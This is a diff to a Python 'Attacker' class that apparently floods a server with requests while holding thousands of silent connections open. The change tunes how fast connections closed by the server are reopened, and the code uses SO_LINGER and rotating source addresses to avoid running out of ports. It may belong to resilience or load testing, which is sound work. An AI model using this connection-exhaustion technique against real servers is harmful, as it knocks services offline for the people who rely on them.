@@ -19,8 +19,11 @@ EVENTS_AT_ONCE: Final = 1024
 TICK_S: Final = 0.002
 # What may be under way at a time: a flood that is not answered comes to a stop there.
 MOST_UNDER_WAY: Final = 2000
-# So many silent connections more are opened at once, where some have been closed.
-REOPENED_A_TICK: Final = 20
+# Silent connections that were closed are opened again at this rate: 10,000, each of which is given up after
+# 10 s, stay that many.
+REOPENED_PER_S: Final = 1000.0
+# The first time they come faster.
+OPENED_A_TICK: Final = 20
 IP_BIND_ADDRESS_NO_PORT: Final = 24  # ip(7)
 # Ends connections without TIME_WAIT (socket(7), SO_LINGER): the ports of one address would not last long.
 _NO_LINGER: Final = struct.pack("ii", 1, 0)
@@ -38,6 +41,7 @@ class Attacker:
         self._sources: Sequence[str] = ()
         self._wanted = 0  # silent connections
         self._opened = 0
+        self._reopen_at = 0.0
         self._closed = 0  # silent connections, by the server
         self._request = b""
         self._source = ""
@@ -90,7 +94,13 @@ class Attacker:
             self._flood_more()
 
     def _hold_more(self) -> None:
-        for _ in range(min(REOPENED_A_TICK, self._wanted - len(self._silent))):
+        for _ in range(min(OPENED_A_TICK, self._wanted - len(self._silent))):
+            if self._opened >= self._wanted:
+                now = time.monotonic()
+                if now < self._reopen_at:
+                    return
+                # After a pause it does not make up for it.
+                self._reopen_at = max(self._reopen_at, now - TICK_S) + 1 / REOPENED_PER_S
             self._opened += 1
             opened = self._connect(self._sources[self._opened % len(self._sources)])
             self._silent[opened.fileno()] = opened
